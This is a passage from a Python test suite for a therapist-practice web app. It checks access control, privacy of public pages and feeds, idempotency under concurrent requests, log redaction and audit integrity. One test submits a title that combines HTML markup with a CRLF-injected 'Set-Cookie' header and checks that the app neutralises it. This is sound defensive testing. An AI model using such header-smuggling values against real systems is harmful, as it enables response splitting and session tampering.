        f"/training/{stand.practitioner}", stand.training_fields | {"title": '<b>"x"\r\nSet-Cookie: a=b'}, {}
    )
    assert odd.status in (303, 422) and "<b>" not in odd.body.decode() and not odd.cookies


def test_whoever_is_no_steward_finds_no_queue_whatever_is_sent(town):
    training, experience = town.stands["there"].waiting_training, town.stands["there"].experience
    forms = [{}, {"decision": "x"}, {"decision": "verify"}, {"decision": "refuse"}, {"decision": "revoke"}]
    forms += [{"decision": "confirm"}, {"decision": "refuse", "reason": ""}, {"decision": "publish"}]
    for person in (town.owner, town.anna, town.asta, town.olga, town.xeno):
        for fields in forms:
            for path in (f"/checks/{training}", f"/checks/experiences/{experience}"):
                assert person.visitor.form(path, fields).status == 404, (person, path, fields)


def test_nobody_decides_on_the_own_training(town):
    """A steward neither verifies nor refuses, revokes nor confirms what stands for the own work."""
    waiting_trainings(town, None)
    stand, stew = town.stands["own"], town.stew.visitor
    for fields in (
        {"decision": "verify", "method": "issuer"}, {"decision": "refuse", "note": "x"},
        {"decision": "revoke", "note": "x"}, {"decision": "confirm"}, {"decision": "drop"},
    ):
        for training in (stand.checked, stand.waiting_training):
            assert stew.form(f"/checks/{training}", fields).status == 404
    experiences("submitted")(town, None)
    assert stew.form(f"/checks/experiences/{stand.experience}", {"decision": "publish"}).status == 404
    assert stand.told not in stew.get("/checks/experiences").text, "nobody is offered to decide on the own"


def test_nobody_decides_on_what_they_handed_in_for_somebody_without_an_account(town):
    """An owner who keeps the page of somebody without an account is no second pair of eyes."""
    third = town.third.visitor
    made = third.form("/desk/practitioners", {"account": "none", "name": "Nobody Elsewhere"})
    number = made.header("Location").split("/")[-1]
    fields = town.stands["own"].training_fields | {"title": "Selfmade certificate"}
    assert third.multipart(f"/training/{number}", fields, {}).status == 303
    [[training]] = town.house.change("SELECT id FROM training WHERE practitioner = ?", number)
    assert third.form(f"/checks/{training}", {"decision": "verify", "method": "issuer"}).status == 404


def test_revoking_takes_two(town):
    stand, stew, third = town.stands["here"], town.stew.visitor, town.third.visitor
    path = f"/checks/{stand.checked}"
    assert stew.form(path, {"decision": "revoke", "note": "Taken back"}).status == 303
    assert stew.form(path, {"decision": "confirm"}).status == 404
    for person in (town.owner, town.anna, town.olga):
        assert person.visitor.form(path, {"decision": "confirm"}).status == 404
    assert Visitor(town.house.port).get(f"/therapists/{stand.practitioner}").status == 200
    assert third.form(path, {"decision": "drop"}).status == 303


def test_a_colleague_books_moves_and_ties_nothing_in_the_calendar_of_another(town):
    stand = town.stands["here"]
    visit = {"service": stand.service, "client": town.cases["yours"].id, "day": "2027-03-02", "time": "10:00"}
    before = state(town, Thing("none", ""))
    assert town.bert.visitor.form("/calendar", {**visit, "key": str(uuid.uuid4())}).status in (404, 422)
    assert town.olga.visitor.form(
        "/calendar", {**visit, "client": town.cases["theirs"].id, "key": str(uuid.uuid4())}
    ).status in (404, 422)
    # Nor does anybody book for, or tie to, a client of another practice or one they may not see.
    for person, client in ((town.anna, "yours"), (town.anna, "theirs"), (town.owner, "theirs"), (town.asta, "theirs")):
        fields = {**visit, "client": town.cases[client].id, "key": str(uuid.uuid4())}
        assert person.visitor.form("/calendar", fields).status == 404, (person, client)
        tied = person.visitor.form(f"/calendar/{stand.appointment}/client", {"client": town.cases[client].id})
        assert tied.status == 404, (person, client)
    assert state(town, Thing("none", "")) == before


def test_a_page_takes_no_place_or_service_of_another_practice(town):
    here, there = town.stands["here"], town.stands["there"]
    anna = town.anna.visitor
    fields = here.page_fields(here.version(town.house, "practitioner"), base=there.place)
    assert anna.form(here.page, fields).status == 422
    fields = here.service_fields(here.version(town.house, "service"), place=there.place)
    assert anna.form(f"/desk/services/{here.service}", fields).status == 422
    # Nor somebody else's absence through the own page.
    number = there.absence(town.house)
    assert anna.form(f"{here.page}/absences/{number}/remove").status == 404
    assert town.house.change("SELECT count(*) FROM absence WHERE id = ?", number) == [(1,)]


def test_broken_glass_writes_nothing_through_the_calendar(town):
    """Whoever broke the glass reads; a form of a client does not get into that record by tying an appointment."""
    bert, stand, case = town.bert.visitor, town.stands["here"], town.cases["glass"]
    if not town.glass(town.owner):
        town.break_glass(town.bert, case, town.owner)
    made = bert.form("/desk/practitioners", {"name": "Bert Treats"})
    page = made.header("Location") or re.search(r"/desk/practitioners/[0-9a-f-]{36}", bert.get("/desk").text)[0]
    number, change = page.split("/")[-1], town.house.change
    change("UPDATE appointment SET client = NULL, practitioner = ? WHERE id = ?", number, stand.appointment)
    form = {"t": stand.tokens["form"], "text": "Words of somebody else"}
    assert Visitor(town.house.port).form("/intake", form, csrf=False).status == 200
    answer = bert.form(f"/calendar/{stand.appointment}/client", {"client": case.id})
    change("UPDATE appointment SET client = NULL, practitioner = ? WHERE id = ?", stand.practitioner, stand.appointment)
    assert answer.status == 404
    assert "Words of somebody else" not in town.anna.visitor.get(f"/clients/{case.id}").text


def test_a_feed_ends_with_a_new_one_and_tells_names_and_times_alone(town):
    stand, visitor = town.stands["here"], Visitor(town.house.port)
    desk = stand.therapist.visitor
    first = desk.form(f"{stand.page}/feed").link
    text = visitor.get(first).text
    for word in (stand.mail, stand.form, "0316 77", "First visit", stand.case.name, stand.case.note, stand.told):
        assert word not in text
    second = desk.form(f"{stand.page}/feed").link
    assert visitor.get(first).status == 404 and visitor.get(second).status == 200
    assert desk.form(f"{stand.page}/feed", {"end": "yes"}).status == 303
    assert visitor.get(second).status == 404


def test_public_pages_and_the_published_times_name_no_client(town):
    visitor, stand = Visitor(town.house.port), town.stands["here"]
    paths = [f"/therapists/{stand.practitioner}", f"/book/{stand.service}", f"/newsletter/{stand.practice_id}"]
    paths += ["/scheduling/$bulk-publish", *(f"/scheduling/{one}.ndjson" for one in ("locations", "schedules", "slots"))]
    words = [stand.client, stand.mail, stand.waiter, stand.form, stand.told, stand.evidence, stand.therapist.mail]
    for path in paths:
        text = visitor.get(path).text
        assert [word for word in words if word in text] == [], path
    found = visitor.form("/find", {"place": "Graz"}, csrf=False).text
    assert stand.name in found and [word for word in words if word in found] == []


# 11. Repetition


def test_thirty_equal_requests_make_one_client(town):
    key, fields = str(uuid.uuid4()), {"name": "Manytimes Asked", "note": "once"}
    visitors = [town.anna.visitor.copy() for _ in range(30)]
    with concurrent.futures.ThreadPoolExecutor(30) as pool:
        answers = list(
            pool.map(lambda one: one.api("POST", "/api/clients", fields, {"Idempotency-Key": key}), visitors)
        )
    assert {answer.status for answer in answers} == {201} and len({answer.json["id"] for answer in answers}) == 1
    assert len(town.anna.visitor.get("/api/clients?q=manytimes").json["clients"]) == 1
    other = town.anna.visitor.api(
        "POST", "/api/clients", {**fields, "name": "Manytimes Other"}, {"Idempotency-Key": key}
    )
    assert other.status == 422 and len(town.anna.visitor.get("/api/clients?q=manytimes").json["clients"]) == 1
    # The key of one member is nothing to another.
    owner = town.owner.visitor.api("POST", "/api/clients", fields, {"Idempotency-Key": key})
    assert owner.status == 201 and owner.json["id"] != answers[0].json["id"]


def test_thirty_equal_forms_make_one_client(town):
    fields = {"name": "Formtimes Asked", "therapist": town.anna.id, "key": str(uuid.uuid4())}
    visitors = [town.anna.visitor.copy() for _ in range(30)]
    with concurrent.futures.ThreadPoolExecutor(30) as pool:
        answers = list(pool.map(lambda one: one.form("/clients", fields), visitors))
    assert {answer.status for answer in answers} == {303} and len(
        {answer.header("Location") for answer in answers}
    ) == 1
    assert len(town.anna.visitor.get("/api/clients?q=formtimes").json["clients"]) == 1


@pytest.mark.parametrize("key", ["", "short", "a" * 101, "a b c d e f g", "\x01" * 10, "ключключ", None], ids=repr)
def test_odd_keys_are_refused_and_named(town, key):
    headers = {"Idempotency-Key": key.encode() if key is not None else None}
    try:
        answer = town.anna.visitor.api("POST", "/api/clients", {"name": "Oddkey Person"}, headers)
    except http.client.HTTPException:
        answer = None
    assert (
        answer is None
        or answer.status == 400
        or answer.status == 422
        and answer.json["error"]["field"] == "Idempotency-Key"
    )
    assert not town.anna.visitor.get("/api/clients?q=oddkey").json["clients"]


def test_of_many_changes_to_one_version_one_is_kept(town):
    case = town.cases["yours"]
    tag = town.bert.visitor.api("GET", f"/api/clients/{case.id}").header("ETag")
    visitors = [town.bert.visitor.copy() for _ in range(20)]
    with concurrent.futures.ThreadPoolExecutor(20) as pool:
        answers = list(
            pool.map(
                lambda number: visitors[number].api(
                    "PUT", f"/api/clients/{case.id}", {"phone": f"+49 {number}"}, {"If-Match": tag}
                ),
                range(20),
            )
        )
    statuses = sorted(answer.status for answer in answers)
    assert statuses == [200] + [412] * 19
    kept = next(answer.json["phone"] for answer in answers if answer.status == 200)
    assert town.bert.visitor.api("GET", f"/api/clients/{case.id}").json["phone"] == kept


# 8. Logs; last, because they are of everything above


def test_logs_are_json_and_tell_nothing(town):
    town.owner.visitor.get("/clients?q=Querymarkerqz&next=Querymarkerqz")
    town.owner.visitor.get("/Pathmarkerqz/Pathmarkerqz")
    town.house.visitor().form("/sign-in", {"mail": "mailmarkerqz@x.example", "password": "Passmarkerqz"}, csrf=False)
    logged = town.house.logged()
    lines = logged.splitlines()
    assert len(lines) > 100
    allowed = {
        "time",
        "level",
        "event",
        "request_id",
        "method",
        "route",
        "status",
        "milliseconds",
        "bytes",
        "actor_id",
        "practice_id",
        "type",
    }
    for line in lines:
        entry = json.loads(line)
        assert set(entry) <= allowed, line
    words = (
        {word for word, _ in markers(town)}
        | town.house.secrets
        | set(ODD.values()) - {ODD["like"]}
        | {"markerqz", "Hacked", "evil.example", "Glassreason"}
    )
    assert [word for word in words if word and word in logged] == []
    levels = {json.loads(line)["level"] for line in lines}
    assert "critical" not in levels


def test_the_audit_chain_is_whole_and_names_nobody(town):
    assert town.bert.visitor.get(f"/clients/{town.cases['mine'].id}").status == 404
    assert town.bert.visitor.get(f"/clients/{town.cases['yours'].id}").status == 200
    wrong = {"mail": town.bert.mail, "password": "wrong wrong wrong"}
    assert town.house.visitor().form("/sign-in", wrong, csrf=False).status == 422
    assert "the chain is whole" in town.house.run("audit", "verify")
    rows = town.house.change("SELECT action, object, detail, actor FROM audit")
    text = " ".join(" ".join(map(str, row)) for row in rows)
    ids = {case.id for case in town.cases.values()}
    assert [word for word, _ in markers(town) if word in text and word not in ids] == []
    assert {"refused", "glass_broken", "sign_in_refused", "client_read"} <= {row[0] for row in rows}


def test_nothing_planted_lies_in_the_files_in_plain_text(town):
    for file in town.house.data.rglob("*"):
        if file.is_file():
            data = file.read_bytes()
            found = [word for word, _ in markers(town) if word.encode() in data]
            found += [secret for secret in town.house.secrets if len(secret) > 12 and secret.encode() in data]
            # Numbers of records and the name of a practice are no secrets.
            plain = {case.id for case in town.cases.values()} | {"Practnmone", "Practnmtwo"}
            # What is shown once it is checked is no secret either.
            plain |= {stand.evidence for stand in town.stands.values()}
            assert [word for word in found if word not in plain] == [], file.name
